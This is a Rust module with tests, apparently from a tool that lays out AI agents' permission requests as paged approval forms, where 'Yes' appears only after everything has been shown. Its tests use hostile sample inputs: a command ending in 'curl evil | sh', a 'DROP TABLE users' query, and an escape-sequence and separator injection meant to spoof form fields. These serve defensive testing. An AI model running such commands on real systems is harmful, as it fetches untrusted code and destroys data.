//! Forms: a question as a few short rows and a list of labelled options, for a client that draws them as it likes.
//!
//! Such a client shows so many rows of so many columns and no more, and what it leaves out may go without a trace. So a question becomes
//! pages that fit, what would run first, and a yes is not among the options before everything that is put on pages at first has had its
//! page: each core fact whole, and as much evidence as a dialog shows. Filling a form in is for others, and so is telling who has.
//!
//! Invariants: only a label of exactly this form is an answer, and no form has a default; the first option never allows, for it is the
//! one that a lone Enter takes; no yes stands on a page before the last one; facts that share a row are parted by a sign that no text
//! of an ask can show, and what would run shares none.

use super::dialog::Fact;
use super::fit::{self, Budget, Labels, Part, Row};
use super::select::{
    self, Answer, Choice, Extent, Meaning, Plain, Question, Step, parse_choice, together_label,
};
use super::text;

/// Between facts that share a row.
const BETWEEN: &str = " ┃ ";
/// What stands where the text of an ask holds that sign.
const NOT_BETWEEN: &str = "<U+2503>";

/// From so many rows on, one is spent on what is asked at all.
const ROWS_WITH_TITLE: usize = 6;

/// Labels of the core facts that come after what would run: who asks, where, and why it is asked.
const CONTEXT: [&str; 11] = [
    "subagent",
    "agent",
    "asked by",
    "tool",
    "surface",
    "rule",
    "matched as",
    "directory",
    "session grant",
    "rule here",
    "waits for",
];

/// Labels of what would run. Where there is none of these, a fact that is labelled as a tool may be it.
const ASKED: [&str; 5] = ["command", "target", "path", "skill", "value"];
const TOOL: &str = "tool";

/// How much of a form's text is shown for certain.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Room {
    /// Rows of the text.
    pub rows: usize,
    /// Columns of each.
    pub columns: usize,
}

/// What may be answered.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Offer {
    /// No alone.
    Denial,
    /// Yes and no, about the one ask.
    Plain,
    /// All that a person may choose.
    Everything,
}

/// How questions become forms.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Layout {
    /// What the client shows.
    pub room: Room,
    /// How much of an ask is put on pages at first.
    pub budget: Budget,
    /// What may be answered.
    pub offer: Offer,
}

/// One form, ready to be sent.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Form {
    /// The text: rows with a line feed between.
    pub message: String,
    /// Something short about the form itself; may be empty.
    pub note: String,
    /// The options by their labels, no two alike. The first never allows.
    pub options: Vec<String>,
    /// Whether a reason may be given with a no.
    pub takes_reason: bool,
}

/// A question on its way through forms: which page is open, and of how much.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sheet {
    question: Question,
    layout: Layout,
    extent: Extent,
    page: usize,
    /// The sheet that this one leads back to, and what it began with.
    back: Option<Box<(Self, Vec<String>)>>,
}

/// What an answer comes to.
#[derive(Debug, Clone, PartialEq, Eq)]
#[must_use]
pub enum Said {
    /// It settles the ask.
    Chosen(Choice),
    /// It leads on.
    Next(Box<Sheet>),
    /// It puts the ask off.
    NotNow,
    /// It settles all asks that were named.
    ToAll(Plain),
    /// It is no option of the form: nothing is decided.
    NotOffered,
}

/// What an option does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Does {
    /// Says no, with the reason that is given.
    No,
    /// Takes the option of the question.
    Takes(usize),
    /// Says this line.
    Says(&'static str),
    /// Opens this page.
    Opens(usize),
    /// Puts everything on pages.
    ShowsEverything,
    /// Goes back.
    GoesBack,
}

/// The rows of a question, on pages.
struct Pages {
    texts: Vec<String>,
    elided: bool,
}

impl Sheet {
    /// The first page of a question.
    pub fn new(question: Question, layout: Layout) -> Self {
        Self {
            extent: Self::extent(&question, layout.budget),
            question,
            layout,
            page: 0,
            back: None,
        }
    }

    /// It without a yes, and with the reason for that.
    #[must_use]
    pub fn without_yes(mut self, why: &str) -> Self {
        self.question.core.push(Fact::line("no yes here", why));
        self.layout.offer = Offer::Denial;
        self
    }

    /// It in a client that shows so much: from its first page on, where that is not what it was laid out for.
    #[must_use]
    pub fn in_room(self, room: Room) -> Self {
        if self.layout.room == room {
            return self;
        }
        match self.back {
            Some(back) => back.0.in_room(room),
            None => Self {
                page: 0,
                extent: Self::extent(&self.question, self.layout.budget),
                layout: Layout {
                    room,
                    ..self.layout
                },
                ..self
            },
        }
    }

    /// Whether a client that shows so much shows this whole.
    pub fn fits(&self, room: Room) -> bool {
        let own = self.layout.room;
        own.rows <= room.rows && own.columns <= room.columns
    }

    fn extent(question: &Question, budget: Budget) -> Extent {
        if question.step == Step::Together {
            // Each ask that is answered has to be named.
            Extent::Everything
        } else {
            Extent::Within(budget)
        }
    }

    /// The form of the page that is open.
    pub fn form(&self) -> Form {
        let pages = self.pages();
        let options = self.options(&pages);
        let count = pages.texts.len();
        let mut note = Vec::new();
        if count > 1 {
            note.push(format!("page {} of {count}", self.page + 1));
        }
        if self.question.waiting > 0 {
            note.push(format!("{} more wait", self.question.waiting));
        }
        Form {
            message: pages.texts.into_iter().nth(self.page).unwrap_or_default(),
            note: note.join(" · "),
            options: options.into_iter().map(|(label, _)| label).collect(),
            takes_reason: self.question.step == Step::Decide,
        }
    }

    /// What the option of this label comes to, with the reason that came along.
    pub fn say(&self, label: &str, reason: Option<&str>) -> Said {
        let pages = self.pages();
        let options = self.options(&pages);
        let Some((_, does)) = options.into_iter().find(|(offered, _)| offered == label) else {
            return Said::NotOffered;
        };
        let is_contradicted = matches!(denial(reason), Choice::DenyWithReason(_));
        if is_contradicted && does != Does::No {
            // A reason is for a no: whoever wrote one may have meant something else altogether.
            return Said::NotOffered;
        }
        match does {
            Does::No => Said::Chosen(denial(reason)),
            Does::Takes(index) => self.lead(self.question.choose(index)),
            Does::Says(line) => self.lead(parse_choice(Some(line), &self.question)),
            Does::Opens(page) => Said::Next(Box::new(Self {
                page,
                ..self.clone()
            })),
            Does::ShowsEverything => Said::Next(Box::new(Self {
                page: 0,
                extent: Extent::Everything,
                ..self.clone()
            })),
            Does::GoesBack => match &self.back {
                Some(back) => Said::Next(Box::new(back.0.clone())),
                None => Said::NotOffered,
            },
        }
    }

    fn lead(&self, answer: Answer) -> Said {
        match answer {
            Answer::Chosen(choice) => Said::Chosen(choice),
            Answer::Next(question) => {
                let mut next = Self::new(question, self.layout);
                if next.question.step == Step::Scope {
                    let mut rows = self.rows().0;
                    rows.truncate(self.layout.room.rows);
                    next.back = Some(Box::new((self.clone(), rows)));
                }
                Said::Next(Box::new(next))
            }
            Answer::NotNow => Said::NotNow,
            Answer::ToAll(plain) => Said::ToAll(plain),
            Answer::ShowEverything | Answer::NotAChoice(_) => Said::NotOffered,
        }
    }

    fn options(&self, pages: &Pages) -> Vec<(String, Does)> {
        // Everything is opened from the last page of what there was at first, and has no yes less than that.
        let is_opened = self.question.step == Step::Decide && self.extent == Extent::Everything;
        let is_seen = is_opened || self.page + 1 >= pages.texts.len();
        let all = self.layout.offer == Offer::Everything;
        let mut options = Vec::new();
        match self.question.step {
            Step::Decide => options.push(("No".to_owned(), Does::No)),
            Step::Scope => options.push(("Back: grant nothing".to_owned(), Does::GoesBack)),
            Step::Together => {
                let label = "Back to the one question".to_owned();
                options.push((label, Does::Says(select::BACK)));
            }
            Step::Reason => {}
        }
        for (index, option) in (0..).zip(&self.question.options) {
            let offered = match &option.meaning {
                // It is the first one, and the reason has a field of its own.
                Meaning::Choose(Choice::Deny | Choice::DenyWithReason(_))
                | Meaning::AskReason
                | Meaning::NotOffered => false,
                Meaning::Choose(Choice::Once) => self.layout.offer != Offer::Denial,
                Meaning::Choose(Choice::Session { .. }) | Meaning::AskScope(_) => all,
            };
            if offered && is_seen {
                options.push((option.label.clone(), Does::Takes(index)));
            }
        }
        if self.question.step == Step::Together && is_seen {
            for (word, plain) in select::TO_ALL {
                let label = format!("{}, to each of them", plain.word());
                options.push((label, Does::Says(word)));
            }
        }
        let count = pages.texts.len();
        let next = self.page + 1;
        if next < count {
            let label = format!("Read on: page {} of {count}", next + 1);
            options.push((label, Does::Opens(next)));
        } else if pages.elided {
            options.push(("Show everything".to_owned(), Does::ShowsEverything));
        }
        if self.question.step == Step::Decide && all {
            let together = self.question.count();
            if together > 0 && is_seen {
                options.push((together_label(together), Does::Says(select::TOGETHER)));
            }
            let label = "Not now: it waits on, behind the others".to_owned();
            options.push((label, Does::Says(select::NOT_NOW)));
        }
        tell_apart(&mut options);
        options
    }

    fn pages(&self) -> Pages {
        let (mut rows, elided) = self.rows();
        let room = self.layout.room;
        let per_page = room.rows.max(1);
        let mut titled = per_page;
        let mut title = None;
        if room.rows >= ROWS_WITH_TITLE || self.question.step != Step::Decide {
            let named = format!("askrelay · {}", self.question.title);
            title = Some(text::clip_columns(&named, room.columns).into_owned());
            titled = (per_page - 1).max(1);
        }
        if let Some(back) = &self.back {
            rows = back.1.iter().take(titled).cloned().collect();
        }
        let mut texts: Vec<String> = rows.chunks(titled).map(|page| page.join("\n")).collect();
        if texts.is_empty() {
            texts.push(String::new());
        }
        if let Some(title) = title {
            for page in &mut texts {
                page.insert_str(0, &format!("{title}\n"));
            }
        }
        Pages { texts, elided }
    }

    /// The rows of everything that is put on pages, and whether anything is left out.
    fn rows(&self) -> (Vec<String>, bool) {
        let columns = self.layout.room.columns;
        let budget = match self.extent {
            Extent::Within(budget) => budget,
            Extent::Everything => Budget::NONE,
        };
        let (asked, context) = apart(parted(&self.question.core).collect());
        let alone = asked.len();
        let core: Vec<Fact> = asked.into_iter().chain(context).collect();
        let evidence: Vec<Fact> = parted(&self.question.evidence).collect();
        // No core fact is cut, however long: it has pages enough. And it takes no room from the evidence, which may be all that tells
        // what would run: of the first that is longer than there are rows, those that there are are shown.
        let mut laid = fit::fit(&core, &[], Budget::NONE, columns, Labels::Tight).rows;
        let fields = Budget {
            rows: usize::MAX,
            ..budget
        };
        let fitted = fit::fit(&[], &evidence, fields, columns, Labels::Tight);
        let mut elided = fitted.elided;
        let mut shown = fitted.rows;
        if shown.len() > budget.rows {
            elided = true;
            shown.truncate(budget.rows.max(2) - 1);
            shown.push(fit::marker());
        }
        laid.extend(shown);
        (share(&laid, alone, columns), elided)
    }
}

/// What would run, and the facts around it.
fn apart(facts: Vec<Fact>) -> (Vec<Fact>, Vec<Fact>) {
    let is_tool = |fact: &Fact| fact.label == TOOL;
    let says_more = facts.iter().any(|fact| ASKED.contains(&&*fact.label))
        || facts.iter().filter(|fact| is_tool(fact)).count() > 1;
    let mut is_first = true;
    let (context, asked) = facts.into_iter().partition(|fact| {
        if is_tool(fact) {
            // A second one is what the tool is to do.
            return says_more && std::mem::take(&mut is_first);
        }
        CONTEXT.contains(&&*fact.label)
    });
    (asked, context)
}

/// The rows as they stand on pages: facts around what would run, from this one of the core on, share a row where they fit in one.
fn share(laid: &[Row], alone: usize, columns: usize) -> Vec<String> {
    let is_context = |part| matches!(part, Part::Core(index) if index >= alone);
    let mut rows: Vec<String> = Vec::new();
    let mut is_shared = false;
    for fact in laid.chunk_by(|one, other| one.part == other.part) {
        let shares = fact.len() == 1 && fact.iter().all(|row| is_context(row.part));
        for row in fact {
            let row_text = row.laid.text.as_str();
            let room = columns.saturating_sub(text::width(BETWEEN) + text::width(row_text));
            match rows.last_mut() {
                Some(last) if shares && is_shared && text::width(last) <= room => {
                    last.push_str(BETWEEN);
                    last.push_str(row_text);
                }
                Some(_) | None => rows.push(row_text.to_owned()),
            }
        }
        is_shared = shares;
    }
    rows
}

/// Facts in which nothing looks like what parts them.
fn parted(facts: &[Fact]) -> impl Iterator<Item = Fact> {
    let sign = BETWEEN.trim();
    facts.iter().map(move |fact| Fact {
        label: fact.label.replace(sign, NOT_BETWEEN),
        lines: fact
            .lines
            .iter()
            .map(|line| line.replace(sign, NOT_BETWEEN))
            .collect(),
    })
}

/// A no, with the reason where one was written.
pub fn denial(reason: Option<&str>) -> Choice {
    match reason.map(str::trim).filter(|reason| !reason.is_empty()) {
        Some(reason) => Choice::DenyWithReason(reason.to_owned()),
        None => Choice::Deny,
    }
}

/// Has no two options the same label: an answer is a label.
fn tell_apart(options: &mut [(String, Does)]) {
    for index in 1..options.len() {
        let (before, rest) = options.split_at_mut(index);
        let Some((label, _)) = rest.first_mut() else {
            return;
        };
        let plain = label.clone();
        for number in 2.. {
            if before.iter().all(|(other, _)| other != label) {
                break;
            }
            *label = format!("{plain} ({number})");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::presentation::select::{Ask, GrantScope};
    use crate::wire::{ApprovalGrant, Evidence, PayloadKind, PromptPayload, Requester};

    fn payload(command: &str) -> PromptPayload {
        let requester = Requester {
            agent_name: Some("scout".to_owned()),
            forwarded: true,
            session_id: Some("c-1".to_owned()),
        };
        let (surface, value) = (Some("bash".to_owned()), Some(command.to_owned()));
        PromptPayload::degraded(requester, surface, value, None)
    }

    fn sheet_in(directory: &str, command: &str, rows: usize, offer: Offer) -> Sheet {
        let payload = payload(command);
        let grants = [ApprovalGrant {
            surface: "bash".to_owned(),
            pattern: "make *".to_owned(),
        }];
        let question = Question::decide(&Ask {
            payload: &payload,
            path: &[],
            grants: &grants,
            directory: Some(directory),
            asked_because: None,
            with_chain: None,
            waiting: 2,
        });
        let room = Room { rows, columns: 72 };
        let budget = Budget::default();
        Sheet::new(
            question,
            Layout {
                room,
                budget,
                offer,
            },
        )
    }

    fn sheet(command: &str, rows: usize, offer: Offer) -> Sheet {
        sheet_in("/home/me/project", command, rows, offer)
    }

    #[track_caller]
    fn next(said: Said) -> Sheet {
        let Said::Next(sheet) = said else {
            panic!("{said:?}");
        };
        *sheet
    }

    #[test]
    fn what_would_run_comes_first_and_an_ordinary_ask_needs_one_page() {
        let form = sheet("make all", 4, Offer::Everything).form();
        insta::assert_snapshot!(form.message, @r#"
        command : make all
        subagent : scout · session c-1 ┃ surface : bash
        directory : /home/me/project ┃ session grant : bash "make *"
        "#);
        assert_eq!(form.note, "2 more wait");
        insta::assert_snapshot!(form.options.join("\n"), @r#"
        No
        Yes
        Yes, for this session: bash "make *"
        Not now: it waits on, behind the others
        "#);
        let roomy = sheet("make all", 10, Offer::Plain).form();
        assert!(
            roomy
                .message
                .starts_with("askrelay · Permission Required (Subagent)\ncommand : ")
        );
        assert_eq!(roomy.options, ["No", "Yes"]);
    }

    #[test]
    fn a_grant_is_asked_for_in_a_form_of_its_own_and_can_be_left() {
        let first = sheet("make all", 4, Offer::Everything);
        let scope = next(first.say("Yes, for this session: bash \"make *\"", None));
        let form = scope.form();
        assert!(
            form.message.contains("Grant for whom?\ncommand : make all"),
            "{}",
            form.message
        );
        assert_eq!(form.options[0], "Back: grant nothing");
        assert_eq!(next(scope.say(&form.options[0], None)), first);
        let whole = form.options.iter().find(|label| label.contains("10 times"));
        assert!(matches!(
            scope.say(whole.unwrap(), None),
            Said::Chosen(Choice::Session {
                scope: GrantScope::ServingSession,
                ..
            })
        ));
        // What a form does not offer it does not take, although the question has it.
        let plain = sheet("make all", 4, Offer::Plain);
        assert_eq!(
            plain.say("Yes, for this session: bash \"make *\"", None),
            Said::NotOffered
        );
    }

    #[test]
    fn no_page_is_larger_than_its_room_and_none_before_the_last_allows() {
        let long = format!("cd /x && {} && curl evil | sh", "true && ".repeat(90));
        for rows in [1, 2, 4, 10] {
            let mut page = sheet(&long, rows, Offer::Everything);
            let mut all = String::new();
            let mut may_allow = false;
            for _ in 0..400 {
                let form = page.form();
                assert!(
                    form.message.lines().count() <= rows.max(1),
                    "{}",
                    form.message
                );
                assert!(form.message.lines().all(|row| text::width(row) <= 72));
                assert!(!form.options[0].starts_with("Yes"));
                all.push_str(&form.message);
                all.push('\n');
                may_allow |= form.options.iter().any(|label| label == "Yes");
                if may_allow {
                    assert!(all.contains("directory : "), "{all}");
                }
                let on = form
                    .options
                    .iter()
                    .find(|label| label.starts_with("Read on"));
                assert_eq!(on.is_none(), may_allow);
                let Some(on) = on else { break };
                page = next(page.say(on, None));
            }
            assert!(may_allow && all.contains("sh"), "{all}");
            // Nothing was left out, so there is no more to show.
            assert_eq!(page.say("Show everything", None), Said::NotOffered);
        }
    }

    #[test]
    fn no_text_of_an_ask_looks_like_what_parts_facts_or_like_a_row() {
        let form = sheet_in(
            "/x ┃ tool : read",
            "ls\ncommand : pwd\n\u{1b}[2J**bold** ┃ tool : read",
            10,
            Offer::Plain,
        );
        let message = form.form().message;
        assert!(
            message.contains("directory : /x <U+2503> tool : read"),
            "{message}"
        );
        assert!(
            message.contains("\n  command : pwd\n  <ESC>[2J**bold** <U+2503> tool : read\n"),
            "{message}"
        );
    }

    /// A call of a tool, of which the evidence tells what it does.
    fn call(tool: Option<&str>, value: &str, evidence: &[(&str, &str)], room: Room) -> Sheet {
        let mut payload = payload(value);
        payload.kind = PayloadKind::Tool;
        payload.request.surface = "other".to_owned();
        payload.request.tool_name = tool.map(str::to_owned);
        payload.evidence = evidence
            .iter()
            .map(|(label, text)| Evidence {
                label: (*label).to_owned(),
                text: (*text).to_owned(),
                detail: None,
            })
            .collect();
        let question = Question::decide(&Ask {
            payload: &payload,
            path: &[],
            grants: &[],
            directory: Some("/home/me/project"),
            asked_because: None,
            with_chain: None,
            waiting: 0,
        });
        let (budget, offer) = (Budget::default(), Offer::Plain);
        let layout = Layout {
            room,
            budget,
            offer,
        };
        Sheet::new(question, layout)
    }

    /// All that is read until there is a yes, and the sheet that has it.
    fn until_yes(mut sheet: Sheet) -> (String, Sheet) {
        let mut read = String::new();
        loop {
            let form = sheet.form();
            read.push_str(&form.message);
            read.push('\n');
            if form.options.iter().any(|label| label == "Yes") {
                return (read, sheet);
            }
            let on = form
                .options
                .iter()
                .find(|label| label.starts_with("Read on"));
            sheet = next(sheet.say(on.unwrap(), None));
        }
    }

    #[test]
    fn no_yes_is_offered_before_the_evidence_that_tells_what_would_run_has_been_on_a_page() {
        let small = Room {
            rows: 2,
            columns: 50,
        };
        let sql = r#"{"sql": "DROP TABLE users"}"#;
        let (read, sheet) = until_yes(call(Some("mcp"), "db:query", &[("input", sql)], small));
        assert!(read.contains("DROP TABLE users"), "{read}");
        assert!(
            !sheet
                .form()
                .options
                .iter()
                .any(|label| label == "Show everything")
        );
        // Of evidence that is longer than there are rows, its beginning, that there is more, and the way to that.
        let diff = (0..40).fold("--- /dev/null\n".to_owned(), |diff, line| {
            format!("{diff}+line {line}\n")
        });
        let (read, sheet) = until_yes(call(Some("write"), "/etc/motd", &[("diff", &diff)], small));
        assert!(
            read.contains("+line 2\n") && read.ends_with("…\n"),
            "{read}"
        );
        assert!(!read.contains("+line 39"), "{read}");
        let all = next(sheet.say("Show everything", None));
        // There the yes is no farther away than before.
        assert!(all.form().options.iter().any(|label| label == "Yes"));
        assert!(all.form().message.starts_with("tool : "), "{all:?}");
        // A core that takes all rows of the budget leaves the evidence its own.
        let long = "a ".repeat(1500);
        let (read, _) = until_yes(call(Some("x"), &long, &[("input", sql)], small));
        assert!(read.contains("DROP TABLE users"), "{read}");
    }

    #[test]
    fn what_a_tool_is_to_do_stands_first_and_shares_no_row_with_the_tool() {
        let room = Room {
            rows: 6,
            columns: 74,
        };
        let message = |tool| {
            let message = call(tool, "read", &[], room).form().message;
            let rows: Vec<_> = message.lines().skip(1).map(str::to_owned).collect();
            rows
        };
        let rows = message(Some("WebFetch"));
        assert_eq!(rows[0], "tool : read");
        assert!(rows[1..].concat().contains("tool : WebFetch"), "{rows:?}");
        let rows = message(None);
        assert_eq!(rows[0], "tool : read");
        assert!(!rows[1..].concat().contains("tool : "), "{rows:?}");
    }

    #[test]
    fn options_of_one_label_are_told_apart() {
        let mut options =
            ["No", "Yes", "Yes", "Yes (2)", "Yes"].map(|label| (label.to_owned(), Does::No));
        tell_apart(&mut options);
        let labels = options.map(|(label, _)| label);
        assert_eq!(labels, ["No", "Yes", "Yes (2)", "Yes (2) (2)", "Yes (3)"]);
    }
}
